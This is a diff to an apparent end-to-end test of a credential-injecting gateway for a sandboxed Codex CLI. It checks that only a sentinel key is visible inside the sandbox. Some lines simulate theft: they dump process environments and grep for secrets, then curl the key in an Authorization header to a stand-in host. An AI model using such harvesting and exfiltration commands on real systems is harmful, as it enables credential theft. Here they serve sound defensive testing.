@@ -1,7 +1,10 @@
 // End to end with the real Codex CLI (@openai/codex at image/context.ts CODEX_VERSION, npm-packed once into
 // a cache on the machine): the sandbox image built by `codex-egress build --codex-tarballs`, `up --detach`
 // behind the real gateway, and `codex exec` in the sandbox talking to a scripted OpenAI Responses API in
-// the fake internet (test/fixtures/openai.ts, TLS from a test CA given to Codex with CODEX_CA_CERTIFICATE).
+// the fake internet (test/fixtures/openai.ts, TLS from a test CA the gateway trusts with --upstream-ca).
+// The API key is injected by the gateway (README: Credentials): the fake API checks it received the real
+// key, while the sandbox's environment, files, processes and docker inspect hold only the sentinel, and
+// Codex trusts the gateway's per-project CA, which `up` gave the sandbox (CODEX_CA_CERTIFICATE and the rest).
 // The script makes Codex run one shell command that writes a file in the workdir and fetches an allowed and
 // a denied host; once over the WebSocket transport, once over POST + SSE (the API refuses the upgrade and
 // Codex falls back); the same command also tries the allowed host around the proxy. Nothing leaves the
@@ -16,6 +19,10 @@ import { BASE_IMAGE, withDockerEngine, e2eRun, docker, startDockerWorld, removeE
 import { cachedCodexTarballs, fakeOpenAI, makeTestCA, type FakeOpenAI } from './harness/codex.js';
 import { CODEX_VERSION, codexPlatform } from '../image/context.js';
 import { sandboxExecArgs, codexCommand } from '../image/args.js';
+import { createHash } from 'node:crypto';
+import { statePaths } from '../image/project.js';
+import { credentialPaths } from '../image/credentials.js';
+import { SENTINEL } from '../proxy/inject/credentials.js';
 import { projectFor, PROJECT_LABEL } from '../image/names.js';
 
 // No Codex flags of the test's own: the command line is exactly what `codex-egress exec` builds
@@ -26,6 +33,20 @@ const e2e = e2eRun();
 const { id, images } = e2e;
 const ALLOWED = 'allowed.example.org';
 const DENIED = 'denied.example.org';
+/** A GitHub-like API in the world: its token is a `codex-egress secret` the gateway injects. */
+const GH_HOST = 'api.github.example.org';
+const KEY = 'sk-codex-egress-test-real-key-3f9a1c';
+const GH_TOKEN = 'ghp_e2eFakeToken0123456789';
+const sha = (s: string) => createHash('sha256').update(s).digest('hex');
+/** GET https://api.openai.com/v1/models through the proxy with node's own TLS (default trust), prints node=STATUS. */
+const NODE_TLS_PROBE = `
+const http = require('http'), tls = require('tls');
+const u = new URL(process.env.HTTPS_PROXY);
+http.request({ host: u.hostname, port: u.port, method: 'CONNECT', path: 'api.openai.com:443' }).on('connect', (res, s) => {
+  const t = tls.connect({ socket: s, servername: 'api.openai.com' }, () => t.write('GET /v1/models HTTP/1.1\\r\\nHost: api.openai.com\\r\\nConnection: close\\r\\n\\r\\n'));
+  t.once('data', (d) => { console.log('node=' + String(d).split(' ')[1]); process.exit(0); });
+  t.on('error', (e) => { console.log('node=' + e.code); process.exit(0); });
+}).on('error', (e) => console.log('node=' + e.code)).end();`;
 const API_NAMES = ['api.openai.com', 'chatgpt.com'];
 /** The fake API's address on the world network (DockerWorld.address): the /28's last, which Docker hands out last. */
 const API_ADDRESS = 13;
@@ -84,7 +105,7 @@ async function run(t: Tap) {
     const started = Date.now();
     const tarballs = await cachedCodexTarballs(CODEX_VERSION, codexPlatform(), (s) => t.comment(s));
     // The base image has what Codex exec needs; nothing is downloaded while building.
-    const b = await cli(['build', '--base', BASE_IMAGE, '--codex-tarballs', tarballs, '--build-arg', 'PACKAGES=ca-certificates git curl', '--quiet'], 10 * 60_000);
+    const b = await cli(['build', '--base', BASE_IMAGE, '--codex-tarballs', tarballs, '--build-arg', 'PACKAGES=ca-certificates git curl python3', '--quiet'], 10 * 60_000);
     t.equal(b.code, 0, `build exit 0 ${b.stderr.slice(-800)}`);
     const v = await docker(['run', '--rm', '--network', 'none', images.codex, 'codex', '--version']);
     t.match(v.stdout, new RegExp(`codex-cli ${CODEX_VERSION.replace(/\./g, '\\.')}`), 'the sandbox image runs the pinned Codex');
@@ -92,7 +113,7 @@ async function run(t: Tap) {
     if (b.code !== 0) return;
 
     // api.openai.com and chatgpt.com answer with the fake API's address, beside the world
-    const w = await startDockerWorld(tmp.path, id, [ALLOWED, DENIED], (address) => Object.fromEntries(API_NAMES.map((n) => [n, { a: [address(API_ADDRESS)], ttl: 5 }])));
+    const w = await startDockerWorld(tmp.path, id, [ALLOWED, DENIED, GH_HOST], (address) => Object.fromEntries(API_NAMES.map((n) => [n, { a: [address(API_ADDRESS)], ttl: 5 }])));
     world = w;
     const tls = await makeTestCA(join(tmp.path, 'ca'), API_NAMES);
     // the sandbox sees the CA certificate only (a read-only mount), never its key
@@ -106,11 +127,17 @@ async function run(t: Tap) {
     await execa('git', ['init', '-q', project]);
     await execa('chown', ['-R', `${OWNER.uid}:${OWNER.gid}`, project]);
     const auth = join(tmp.path, 'auth.json');
-    writeFileSync(auth, JSON.stringify({ OPENAI_API_KEY: 'sk-codex-egress-test' }), { mode: 0o644 });
+    writeFileSync(auth, JSON.stringify({ OPENAI_API_KEY: KEY }), { mode: 0o644 });
+    // the gateway verifies the real hosts: the fake API's CA and the world's self-signed certificate
+    const upstreamCa = join(tmp.path, 'upstream-ca.pem');
+    writeFileSync(upstreamCa, readFileSync(tls.ca, 'utf8') + readFileSync(join(tmp.path, 'world', 'cert.pem'), 'utf8'));
+    const secret = await cli(['secret', 'set', 'github', '--host', GH_HOST, '--format', 'token {value}', '--command', `printf ${GH_TOKEN}`, '--env', 'GH_TOKEN']);
+    t.equal(secret.code, 0, `secret set ${secret.stderr}`);
     const up = await cli([
-      'up', '--detach', '--no-defaults', '--allow', ALLOWED, ...API_NAMES.flatMap((n) => ['--allow', n]),
-      '--upstream', w.ip, '--egress-network', w.network, '--auth-file', auth, '--read-only', join(tmp.path, 'trust'),
+      'up', '--detach', '--no-defaults', '--allow', ALLOWED, ...API_NAMES.flatMap((n) => ['--allow', n]), '--allow', GH_HOST,
+      '--upstream', w.ip, '--egress-network', w.network, '--auth-file', auth, '--read-only', join(tmp.path, 'trust'), '--upstream-ca', upstreamCa,
     ]);
+    t.match(up.stderr, /credentials: the OpenAI key \(from auth\.json\) is held by the gateway/, 'auto: an API key is injected');
     t.equal(up.code, 0, `up exit 0 (verify green) ${up.stdout}${up.stderr.slice(-800)}`);
     ready = up.code === 0;
   });
@@ -118,12 +145,11 @@ async function run(t: Tap) {
   const fake = api;
 
   /**
-   * `codex exec` in the running sandbox, with the arguments `codex-egress exec` uses (sandboxExecArgs) plus
-   * the test CA for Codex: `codex-egress exec` has no way to add a variable to Codex's environment.
+   * `codex exec` in the running sandbox, with the arguments `codex-egress exec` uses (sandboxExecArgs) and
+   * nothing else: no key and no CA of the test's (the sandbox trusts the gateway's CA, which `up` set up).
    */
   const codexExec = async (prompt: string) => {
-    const [verb, ...rest] = sandboxExecArgs(p, ['timeout', '-k', '5', '150', ...codexCommand({ mode: 'off', sub: ['exec'], userArgs: [prompt] })]);
-    const r = await execa('docker', [verb!, '-e', `CODEX_CA_CERTIFICATE=${caFile}`, ...rest], { reject: false, timeout: 180_000, stdin: 'ignore' });
+    const r = await execa('docker', sandboxExecArgs(p, ['timeout', '-k', '5', '150', ...codexCommand({ mode: 'off', sub: ['exec'], userArgs: [prompt] })]), { reject: false, timeout: 180_000, stdin: 'ignore' });
     return { code: r.exitCode ?? 1, stdout: String(r.stdout), stderr: String(r.stderr) };
   };
   const audit = async () => {
@@ -165,6 +191,7 @@ async function run(t: Tap) {
       }
       const responses = reqs.filter((q) => q.path === '/v1/responses');
       t.ok(responses.length > 0 && responses.every((q) => q.auth), `every /v1/responses request carried the API key${diag}`);
+      t.ok(responses.every((q) => q.auth_sha256 === sha(`Bearer ${KEY}`)), `the API received the real key (the gateway replaced the sentinel)${diag}`);
       const output = turns[1]?.outputs?.join('\n') ?? '';
       t.match(output, /fetched/, `the command ran to the end and its output went back to the model${/fetched/.test(output) ? '' : diag}`);
 
@@ -201,10 +228,65 @@ async function run(t: Tap) {
     });
   }
 
+  await t.test('the sandbox holds only the sentinel; the gateway injects; the CA is trusted by curl, node and python', async (t) => {
+    const inSandbox = async (script: string, user?: string, vars: Record<string, string> = {}) => {
+      const r = await execa('docker', ['exec', ...(user ? ['-u', user] : []), ...Object.keys(vars).flatMap((k) => ['-e', k]), p.sandbox, 'sh', '-c', script], { reject: false, timeout: 120_000, env: vars });
+      return { code: r.exitCode ?? 1, out: String(r.stdout), errOut: String(r.stderr) };
+    };
+    const caKey = readFileSync(join(credentialPaths(statePaths(p, env)).caDir, 'ca-key.pem'), 'utf8').split('\n')[1]!;
+    const secrets = [KEY, GH_TOKEN, caKey];
+    const holds = (text: string) => secrets.filter((s) => text.includes(s)).map((s) => (s === caKey ? 'the CA key' : `${s.slice(0, 6)}…`));
+
+    const envOut = await inSandbox('env');
+    t.match(envOut.out, new RegExp(`^CODEX_API_KEY=${SENTINEL}$`, 'm'), 'CODEX_API_KEY is the sentinel');
+    t.match(envOut.out, new RegExp(`^GH_TOKEN=${SENTINEL}$`, 'm'), 'GH_TOKEN is the sentinel');
+    t.same(holds(envOut.out), [], 'no real value in the environment');
+    const procs = await inSandbox('ps axeww; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" "\\n"', '0:0');
+    t.ok(procs.out.includes(SENTINEL), 'ps and /proc show the processes (with the sentinel)');
+    t.same(holds(procs.out), [], 'no real value in any process');
+    const inspect = await docker(['inspect', p.sandbox, p.gateway]);
+    t.same(holds(inspect.stdout), [], 'docker inspect of the sandbox and the gateway: no real value');
+    // every file the sandbox can see (as root inside it), mounts included
+    const files = await inSandbox(`grep -rlsF ${secrets.map((s) => `-e '${s}'`).join(' ')} / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev; echo done`, '0:0');
+    t.equal(files.out.trim(), 'done', `no file in the sandbox holds a real value or the CA key${files.out}`);
+    const hostGrep = await execa('grep', ['-rlsF', '-e', KEY, '-e', GH_TOKEN, project], { reject: false });
+    t.equal(String(hostGrep.stdout), '', 'nor any file in the workdir (host side)');
+
+    // the CA is trusted by the sandbox's clients for the intercepted provider host (no -k anywhere)
+    const trust = await inSandbox(
+      [
+        `curl -sS -o /dev/null -w 'curl=%{http_code}\n' https://api.openai.com/v1/models`,
+        // node's TLS with its default trust (+ NODE_EXTRA_CA_CERTS) through a CONNECT of its own: the base image's
+        // Node 20 fetch ignores the proxy variables
+        `node -e "$NODE_PROBE"`,
+        `python3 -c "import urllib.request; print('python=%d' % urllib.request.urlopen('https://api.openai.com/v1/models').status)"`,
+      ].join('; '),
+      undefined,
+      { NODE_PROBE: NODE_TLS_PROBE },
+    );
+    t.match(trust.out, /curl=200/, `curl trusts the project CA ${trust.errOut}`);
+    t.match(trust.out, /node=200/, 'node trusts it');
+    t.match(trust.out, /python=200/, `python trusts it ${trust.errOut.slice(-300)}`);
+
+    // the sentinel stolen and sent to another allowed host carries nothing; the gh-style token is injected for its host
+    const stolen = await inSandbox(`curl -sS -k -H "Authorization: Bearer $CODEX_API_KEY" https://${ALLOWED}/echo-auth; curl -sS -H "Authorization: token $GH_TOKEN" https://${GH_HOST}/echo-auth`);
+    const seen = [...stolen.out.matchAll(/\{"who":[^\n]*?\]\}/g)].map((m) => (JSON.parse(m[0]) as { auth: string[] }).auth);
+    t.same(seen, [[sha(`Bearer ${SENTINEL}`)], [sha(`token ${GH_TOKEN}`)]], `the allowed host got the sentinel, the GitHub-like host its token ${stolen.out}${stolen.errOut}`);
+
+    // and in the logs: injected, by name; never a value
+    const logs = await cli(['logs', '--json']);
+    const lines = logs.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+    t.ok(lines.some((l) => l.host === 'api.openai.com' && l.credential === 'injected' && l.credential_name === 'openai'), 'audit: openai injected');
+    t.ok(lines.some((l) => l.host === GH_HOST && l.credential === 'injected' && l.credential_name === 'github'), 'audit: github injected');
+    const gwLogs = await docker(['logs', p.gateway]);
+    t.same(holds(logs.stdout + readFileSync(statePaths(p, env).auditLog, 'utf8') + gwLogs.stdout + gwLogs.stderr), [], 'no real value in the audit log or the gateway output');
+  });
+
   await t.test('down removes exactly what up made', async (t) => {
     const r = await cli(['down', '--json']);
     t.equal(r.code, 0, r.stderr);
     t.equal((await docker(['ps', '-aq', '--filter', `label=${PROJECT_LABEL}=${p.name}`])).stdout, '', 'no container');
     t.equal((await docker(['network', 'ls', '-q', '--filter', `label=${PROJECT_LABEL}=${p.name}`])).stdout, '', 'no network');
+    t.notOk(existsSync(credentialPaths(statePaths(p, env)).file), 'the real values left the disk with down');
   });
 }
